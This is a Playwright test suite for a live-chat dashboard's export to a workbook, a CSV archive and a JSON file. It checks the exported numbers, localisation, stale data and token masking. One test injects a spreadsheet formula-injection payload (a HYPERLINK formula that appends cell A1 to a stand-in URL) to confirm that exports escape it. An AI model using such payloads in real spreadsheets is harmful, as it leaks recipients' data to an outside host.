// A whole view taken out of the page: as a workbook, as tidy tables, as the workspace's answers. Each file is read back by a
// reader of its own, and has the numbers that the server gives when it is asked once more.

import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { aboveLimit, chooseLanguage, expect, openDemo, settled, showMoreMetrics, signIn, startServer, table, test, type DemoServer, type Page } from '../dashboard';
import { readCsv } from '../csv';
import { extended } from '../extended';
import { libreOfficeSheets, noLibreOffice, noOpenpyxl, output } from '../programs';
import { unzip } from '../unzip';
import { numberOf, readWorkbook, timeOf, type SheetText } from '../workbook';

let server: DemoServer;
test.beforeAll(async () => {
  server = await startServer(...aboveLimit);
});
test.afterAll(() => server.close());

const kinds = ['workbook', 'archive', 'answers'] as const;
type Kind = (typeof kinds)[number];
const opener = (page: Page) => page.locator('.view-export > button');
const choice = (page: Page, kind: Kind) => page.locator('.view-export .popup-group button').nth(kinds.indexOf(kind));
const message = (page: Page) => page.locator('.view-export [role="status"]');

async function open(page: Page) {
  if ((await opener(page).getAttribute('aria-expanded')) !== 'true') await opener(page).click();
}

/** The file that a choice gives. */
async function file(page: Page, kind: Kind) {
  await open(page);
  const coming = page.waitForEvent('download');
  await choice(page, kind).click();
  const download = await coming;
  return { name: download.suggestedFilename(), bytes: await readFile(await download.path()) };
}

async function workbook(page: Page) {
  return readWorkbook((await file(page, 'workbook')).bytes);
}

/** The tidy rows of each file of the archive, by their heads; the receipt has its own. */
async function archive(page: Page) {
  const files = [...unzip((await file(page, 'archive')).bytes)];
  return new Map(files.map(([name, bytes]) => {
    const [heads, ...rows] = readCsv(bytes.toString('utf8'));
    expect(rows.every((row) => row.length === heads.length), name).toBe(true);
    return [name, rows.map((row) => Object.fromEntries(row.map((cell, at) => [heads[at], cell])))] as const;
  }));
}

interface AnswerEntry {
  reports: string[];
  path: string;
  query: Record<string, string>;
  answered: string;
  is_cached: boolean;
  is_old: boolean;
  state: string;
  body: unknown;
}

async function answers(page: Page): Promise<{ text: string; receipt: [string, string][]; answers: AnswerEntry[] }> {
  const text = (await file(page, 'answers')).bytes.toString('utf8');
  return { text, ...JSON.parse(text) };
}

/** What the workspace itself answers. */
async function ask(path: string, query: Record<string, string>) {
  const answer = await fetch(`${server.url}${path}?${new URLSearchParams(query)}`, { headers: { 'X-Auth-Token': server.token, 'X-User-Id': server.userId } });
  return answer.json();
}

/** A sheet by its place: the receipt, and then the panels in the order on screen. */
function sheet(sheets: SheetText[], name: string) {
  const found = sheets.find((sheet) => sheet.name === name);
  expect(found, `${name} among ${sheets.map(({ name }) => name).join(', ')}`).toBeDefined();
  return found!;
}

function column({ rows: [heads, ...rows] }: SheetText, head: string) {
  const place = heads.indexOf(head);
  expect(place, `${head} among ${heads.join(', ')}`).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[place]);
}

const department = async () => {
  const { departments } = await ask('/api/v1/livechat/department', {});
  return departments.find(({ name }: { name: string }) => name === 'Support')._id as string;
};

interface Filter {
  query: () => Promise<string>;
  days: [string, string];
  department?: string;
  compared?: boolean;
}

const filters: Record<string, Filter> = {
  'four weeks': { query: async () => 'range=last-28-days', days: ['2026-10-23', '2026-11-19'] },
  'a department': { query: async () => `range=2026-10-01..2026-10-31&department=${await department()}`, days: ['2026-10-01', '2026-10-31'], department: 'Support' },
  'a comparison': { query: async () => 'range=2026-10-05..2026-11-01&compare=before', days: ['2026-10-05', '2026-11-01'], compared: true },
};

for (const [name, filter] of Object.entries(filters)) {
  test(`of ${name} all three files have the numbers that the workspace sends`, async ({ page }) => {
    const [start, end] = filter.days;
    await signIn(page, server, `?zone=UTC&chart=Avg_first_response_time&${await filter.query()}`);
    const narrowed = filter.department ? { departmentId: await department() } : {};
    const chart = await ask('/api/v1/livechat/analytics/dashboards/charts-data', { start, end, chartName: 'Avg_first_response_time', ...narrowed });
    const { totalizers } = await ask('/api/v1/livechat/analytics/dashboards/conversation-totalizers', { start: `${start}T00:00:00.000Z`, end: `${end}T23:59:59.999Z`, ...narrowed });
    const seconds = chart.dataPoints.map((value: number) => Math.round(value * 1_000) / 1_000);
    const total = totalizers.find(({ title }: { title: string }) => title === 'Total_conversations').value;

    const sheets = await workbook(page);
    expect(sheets.map(({ name }) => name)).toEqual(['Receipt', 'Conversation totals', 'Trend', 'Conversations by agent', 'Chats by department']);
    const trend = sheet(sheets, 'Trend');
    const times = column(trend, 'Average first response time').filter((cell) => cell !== undefined);
    expect(times.every((cell) => typeof cell === 'object' && cell.format === '[h]:mm:ss')).toBe(true);
    expect(times.map((cell) => Math.round(numberOf(cell) * 86_400_000) / 1_000)).toEqual(seconds.filter((value: number) => value > 0));
    expect(column(trend, 'Date').map(timeOf)[0]).toBe(`${start}T00:00`);
    const metrics = column(sheet(sheets, 'Conversation totals'), 'Metric');
    expect(numberOf(column(sheet(sheets, 'Conversation totals'), 'Value')[metrics.indexOf('Conversations')])).toBe(total);
    const receipt = sheet(sheets, 'Receipt').rows.map(([report, detail, value]) => [report ?? '', detail, value]);
    expect(receipt).toContainEqual(['', 'Workspace', new URL(server.url).host]);
    expect(receipt).toContainEqual(['', 'Period', `${start}/${end}`]);
    expect(receipt).toContainEqual(['', 'Time zone', 'UTC']);
    expect(receipt).toContainEqual(['', 'Departments', filter.department ?? 'all departments']);
    expect(receipt.some(([report, detail, value]) => report === 'Trend' && detail === 'Request' && String(value).includes('charts-data'))).toBe(true);
    expect(receipt.some(([report, detail]) => report === 'Trend' && detail === 'Answered')).toBe(true);
    // Of one day the hours are not asked for by themselves: the panel says why it has no numbers.
    expect(receipt.some(([report, detail]) => report === 'Conversations by hour' && detail === 'No numbers')).toBe(true);

    const tables = await archive(page);
    expect([...tables.keys()]).toEqual(['receipt.csv', 'conversation-totals.csv', 'trend.csv', 'conversations-by-agent.csv', 'chats-by-department.csv']);
    const points = tables.get('trend.csv')!.filter(({ period, date }) => period === 'current' && date >= start && date <= end);
    const known = points.filter(({ state }) => state === 'current');
    expect(known.map(({ value }) => Number(value))).toEqual(seconds.filter((value: number) => value > 0));
    expect(known.every(({ unit, metric, department, date, to_date }) => unit === 's' && metric === 'Average first response time' && department === (filter.department ?? '') && date === to_date)).toBe(true);
    const counted = tables.get('conversation-totals.csv')!.find(({ metric, period }) => metric === 'Conversations' && period === 'current')!;
    expect([counted.value, counted.unit, counted.date, counted.to_date, counted.department]).toEqual([String(total), 'count', start, end, filter.department ?? '']);
    // Time on service knows no departments, so that it never stands for one.
    const available = tables.get('conversation-totals.csv')!.find(({ metric }) => metric === 'Available time')!;
    expect([available.unit, available.department]).toEqual(['s', '']);
    const periods = new Set([...tables.values()].flat().map(({ period }) => period).filter(Boolean));
    expect([...periods].sort()).toEqual(filter.compared ? ['change', 'current', 'previous'] : ['current']);

    const sent = await answers(page);
    expect(sent.answers.length).toBeGreaterThan(5);
    for (const { path, query, body, state, reports, answered } of sent.answers) {
      // Both periods of a chart can come in one answer, of which the days are kept.
      const isOfDays = state === 'not kept' && filter.compared && path.endsWith('/charts-data');
      expect([isOfDays || state === 'answered', reports.length > 0], `${state}: ${path} ${JSON.stringify(query)}`).toEqual([true, true]);
      if (isOfDays) continue;
      expect(answered).toMatch(/^2026-11-20T15:0\d:\d\dZ$/);
      expect(body, `${path} ${JSON.stringify(query)}`).toEqual(await ask(path, query));
    }
    expect(sent.answers.some(({ path, state }) => state === 'answered' && path.endsWith('/charts-data'))).toBe(true);
    for (const text of [sent.text, JSON.stringify(sheets), JSON.stringify([...tables])]) expect(text).not.toContain(server.token);
  });
}

test('one agent is one row a number, and the rows are those that are searched', async ({ page }) => {
  await signIn(page, server, '?view=agents&zone=UTC&search=ke&sort=agent.asc');
  const [, agents] = await workbook(page);
  const shown = (await table(page, 'Conversations by agent')).map(([name]) => name);
  expect(column(agents, 'Agent')).toEqual([...shown, 'Total']);
  const rows = (await archive(page)).get('conversations-by-agent.csv')!;
  const names = [...new Set(rows.map(({ agent }) => agent))].filter(Boolean);
  expect(names).toEqual(shown);
  const { data } = await ask('/api/v1/livechat/analytics/dashboards/conversations-by-agent', { start: '2026-10-23T00:00:00.000Z', end: '2026-11-19T23:59:59.999Z' });
  const conversations = rows.filter(({ metric, agent }) => metric === 'Conversations' && agent);
  const known = conversations.filter(({ agent, id }) => id && data.some(({ label }: { label: string }) => label === agent));
  expect(known.length).toBeGreaterThan(0);
  for (const { agent, value } of known) {
    expect(Number(value), agent).toBe(data.find(({ label }: { label: string }) => label === agent).value);
  }
  const shares = sheet(await workbook(page), 'Conversations by agent');
  expect(column(shares, 'Share').filter((cell) => cell !== undefined).every((cell) => typeof cell === 'object' && cell.format === '0.0%')).toBe(true);
});

for (const [language, names] of Object.entries({
  de: ['Beleg', 'Konversationen'],
  ar: ['السجل', 'المحادثات'],
  ja: ['記録', '会話'],
})) {
  test(`in ${language} the numbers are the same, under their names`, async ({ page }) => {
    await signIn(page, server, '?zone=UTC&range=last-28-days');
    const english = await workbook(page);
    await chooseLanguage(page, language);
    await page.goto('./?zone=UTC&range=last-28-days');
    await settled(page);
    const sheets = await workbook(page);
    expect(sheets[0].name).toBe(names[0]);
    expect(sheets.some(({ rows }) => rows[0]?.some((cell) => String(cell).includes(names[1])))).toBe(true);
    const numbers = (sheets: SheetText[]) => sheets.map(({ rows }) => rows.map((row) => row.filter((cell) => typeof cell === 'object')));
    expect(numbers(sheets)).toEqual(numbers(english));
    for (const { xml } of sheets) expect(xml.includes('rightToLeft="1"')).toBe(language === 'ar');
    const values = [...(await archive(page)).values()].flat().map(({ value }) => value).filter(Boolean);
    expect(values.length).toBeGreaterThan(40);
    expect((await answers(page)).answers.every(({ state }) => state === 'answered')).toBe(true);
  });
}

test('names that look like formulas are texts', async ({ page }) => {
  const hostile = `=HYPERLINK("http://127.0.0.1:9/?"&A1,"+1")`;
  await page.route('**/conversations-by-agent*', async (route) => {
    const answer = await route.fetch();
    if (route.request().method() === 'OPTIONS') return route.fulfill({ response: answer });
    const body = await answer.json();
    body.data[0].label = hostile;
    await route.fulfill({ response: answer, json: body });
  });
  await signIn(page, server, '?view=agents&zone=UTC');
  const agents = sheet(await workbook(page), 'Conversations by agent');
  const isIt = (start: string) => (cell: unknown) => String(cell).startsWith(`${start}${hostile}`);
  expect(column(agents, 'Agent').filter(isIt(''))).toHaveLength(1);
  const rows = (await archive(page)).get('conversations-by-agent.csv')!;
  expect(rows.map(({ agent }) => agent).filter(isIt("'")).length).toBeGreaterThan(1);
});

test('a token that a workspace repeats in its answers is in no file', async ({ page, watch }) => {
  await page.route('**/conversations-by-agent*', async (route) => {
    const answer = await route.fetch();
    if (route.request().method() === 'OPTIONS') return route.fulfill({ response: answer });
    const body = await answer.json();
    body.data[0].label = `Ana ${server.token}`;
    await route.fulfill({ response: answer, json: body });
  });
  await signIn(page, server, '?view=agents&zone=UTC');
  // It stands on the page, where the workspace has put it.
  watch.forgive(/^A secret is in /);
  const files = [];
  for (const kind of kinds) files.push((await file(page, kind)).bytes);
  const texts = [...unzip(files[0]).values(), ...unzip(files[1]).values(), files[2]].map(String);
  expect(texts.some((text) => text.includes('Ana ***'))).toBe(true);
  for (const text of texts) {
    expect(text).not.toContain(server.token);
    expect(text).not.toMatch(/X-Auth-Token/i);
  }
});

test('numbers that are old, and panels that have none, are told in all three', async ({ page }) => {
  await signIn(page, server, '?zone=UTC&range=2026-11-16..2026-11-20');
  await server.setFaults({ 'charts-data': 'status-500', 'amount-of-chats': 'status-500', 'chats-per-department': 'status-500' });
  await page.clock.setFixedTime('2026-11-20T15:05:00Z');
  await page.getByRole('region', { name: 'Trend', exact: true }).getByRole('button', { name: /^Refresh/ }).click();
  await expect(page.getByRole('region', { name: 'Trend', exact: true })).toHaveAttribute('data-state', 'stale');
  await settled(page);
  const receipt = (await workbook(page))[0].rows.map((row) => row.map(String));
  expect(receipt.some(([report, detail, value]) => report === 'Trend' && detail === 'Note' && value.startsWith('Older data'))).toBe(true);
  const trend = (await archive(page)).get('trend.csv')!;
  expect(new Set(trend.filter(({ value }) => value).map(({ state }) => state))).toEqual(new Set(['old']));
  const old = (await answers(page)).answers.filter(({ reports }) => reports.includes('Trend'));
  expect(old.length).toBeGreaterThan(0);
  expect(old.every(({ is_old }) => is_old)).toBe(true);
  await server.setFaults({});
});

test('a day that is not over is in progress, and with it the numbers of the whole period', async ({ page }) => {
  await signIn(page, server, '?zone=UTC&range=2026-11-16..2026-11-20');
  const tables = await archive(page);
  for (const name of ['conversation-totals.csv', 'conversations-by-agent.csv']) {
    const numbers = tables.get(name)!.filter(({ value, period }) => value && period === 'current');
    expect(numbers.length, name).toBeGreaterThan(0);
    expect(new Set(numbers.map(({ state }) => state)), name).toEqual(new Set(['in progress']));
  }
  const trend = tables.get('trend.csv')!;
  expect(trend.filter(({ value, date }) => value && date < '2026-11-20').every(({ state }) => state === 'current')).toBe(true);
  expect(trend.filter(({ date }) => date === '2026-11-20').map(({ state, note }) => [state, note])).toEqual([['in progress', 'in progress']]);
});

test.describe('the program that writes the files', () => {
  const isOfProgram = (url: string) => /\/export[-_][^/]*\.(js|wasm)$/.test(url);

  test('is loaded at the first export, once, and the demo has the same menu', async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => isOfProgram(request.url()) && asked.push(request.url()));
    await openDemo(page);
    await showMoreMetrics(page);
    await open(page);
    expect(asked).toEqual([]);
    const { name } = await file(page, 'workbook');
    expect(name).toMatch(/^overview-.*2026-10-23-2026-11-19\.xlsx$/);
    await expect(message(page)).toHaveText('Downloaded.');
    expect(asked).toHaveLength(3);
    expect((await file(page, 'archive')).name).toMatch(/\.zip$/);
    expect((await file(page, 'answers')).name).toMatch(/\.json$/);
    expect(asked).toHaveLength(3);
  });

  test('says that it works, and is not asked twice', async ({ page }) => {
    let go = () => {};
    const held = new Promise<void>((resolve) => (go = resolve));
    await page.route(/export-\w+_bg\.wasm$/, async (route) => {
      await held;
      await route.continue();
    });
    await openDemo(page);
    let files = 0;
    page.on('download', () => (files += 1));
    await open(page);
    await choice(page, 'workbook').click();
    await expect(message(page)).toHaveText('Creating the file…');
    for (const kind of kinds) await expect(choice(page, kind)).toHaveAttribute('aria-disabled', 'true');
    for (const kind of kinds) await choice(page, kind).press('Enter');
    go();
    await expect(message(page)).toHaveText('Downloaded.');
    expect(files).toBe(1);
    await expect(choice(page, 'workbook')).not.toHaveAttribute('aria-disabled', 'true');
  });

  test('says what to do where it does not come, and is tried again', async ({ page, problems }) => {
    for (const part of [/export_loader-\w+\.js$/, /export-\w+_bg\.wasm$/]) {
      await page.route(part, (route) => route.fulfill({ status: 404 }));
      await openDemo(page);
      await open(page);
      await choice(page, 'workbook').click();
      await expect(message(page)).toHaveText("Couldn't create the file. Check your connection, then choose it again.");
      await page.unroute(part);
      expect(readWorkbook((await file(page, 'workbook')).bytes).length).toBeGreaterThan(4);
      await page.goto('about:blank');
    }
    problems.length = 0;
  });
});

test('a key opens the menu, and Escape gives the focus back', async ({ page }) => {
  await openDemo(page);
  await page.keyboard.press('s');
  await expect(opener(page)).toBeFocused();
  await expect(page.getByRole('group', { name: 'Export this view' })).toBeVisible();
  await page.keyboard.press('Tab');
  await expect(choice(page, 'workbook')).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(opener(page)).toBeFocused();
  await expect(opener(page)).toHaveAttribute('aria-expanded', 'false');
});

test.describe('other programs', () => {
  async function withFile(page: Page, use: (path: string, folder: string) => void | Promise<void>) {
    const folder = await mkdtemp(join(tmpdir(), 'workbook-'));
    try {
      const path = join(folder, 'view.xlsx');
      await writeFile(path, (await file(page, 'workbook')).bytes);
      await use(path, folder);
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  }

  test('openpyxl reads durations, shares and dates', extended, async ({ page }) => {
    test.skip(noOpenpyxl() !== undefined, noOpenpyxl());
    await signIn(page, server, '?zone=UTC&range=last-28-days&chart=Avg_first_response_time');
    await withFile(page, (path) => {
      const program = [
        'import json, sys, openpyxl',
        'book = openpyxl.load_workbook(sys.argv[1])',
        'cell = lambda c: [c.data_type, type(c.value).__name__, str(c.value)]',
        'sheets = {s.title: [[cell(c) for c in row] for row in s.iter_rows()] for s in book}',
        'print(json.dumps({"sheets": sheets, "frozen": [s.freeze_panes for s in book], "filters": [s.auto_filter.ref for s in book], "bold": [s["A1"].font.b for s in book]}))',
      ].join('\n');
      const read = JSON.parse(output('python3', ['-c', program, path])!);
      expect(read.frozen).toEqual(['A2', 'B2', 'B2', 'B2', 'B2']);
      expect(read.bold.every(Boolean) && read.filters.every(Boolean)).toBe(true);
      const [heads, first] = read.sheets.Trend;
      expect(heads.map(([, , text]: string[]) => text)).toEqual(['Date', 'Average first response time']);
      expect(first[0].slice(1)).toEqual(['datetime', '2026-10-23 00:00:00']);
      expect(['timedelta', 'time']).toContain(first[1][1]);
      expect(JSON.stringify(read.sheets)).not.toContain('["f",');
    });
  });

  test('LibreOffice opens it', extended, async ({ page }) => {
    test.skip(noLibreOffice() !== undefined, noLibreOffice());
    await signIn(page, server, '?zone=UTC&range=last-28-days&chart=Avg_first_response_time');
    await withFile(page, async (path, folder) => {
      const trend = libreOfficeSheets(path, folder).get('Trend')!.replaceAll('"', '');
      expect(trend.split('\n')[0]).toBe('Date,Average first response time');
      const [date, time] = trend.split('\n')[1].split(',');
      const { dataPoints } = await ask('/api/v1/livechat/analytics/dashboards/charts-data', { start: '2026-10-23', end: '2026-11-19', chartName: 'Avg_first_response_time' });
      expect(date).toBe('2026-10-23');
      // Hours, minutes and seconds, of which a short time has the last two.
      expect(time.split(':').reduce((sum, part) => sum * 60 + Number(part), 0)).toBeCloseTo(dataPoints[0], 1);
    });
  });
});
